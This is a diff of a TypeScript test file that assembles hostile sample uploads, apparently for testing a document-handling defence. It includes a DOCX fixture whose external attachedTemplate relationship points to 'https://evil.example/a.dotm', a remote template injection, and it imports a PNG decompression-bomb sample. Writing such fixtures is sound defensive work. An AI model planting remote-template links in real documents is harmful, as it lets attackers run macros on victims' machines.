@@ -1,5 +1,5 @@
 import { randomBytes } from 'node:crypto';
-import { docx, pdf, photo, pngBomb, relations, zipOf } from '#tests/support/sample-files.ts';
+import { docx, pdf, photo, pngBomb, relation, relationsFile, zipOf } from '#tests/support/sample-files.ts';
 
 /** A file that an attacker sends. */
 export interface HostileFile {
@@ -87,7 +87,7 @@ function hostileDocuments(jpeg: Buffer): readonly HostileFile[] {
       docx([
         {
           name: 'word/_rels/settings.xml.rels',
-          content: relations('x/attachedTemplate', 'https://evil.example/a.dotm', 'External'),
+          content: relationsFile(relation('x/attachedTemplate', 'https://evil.example/a.dotm', 'External')),
         },
       ]),
     ),
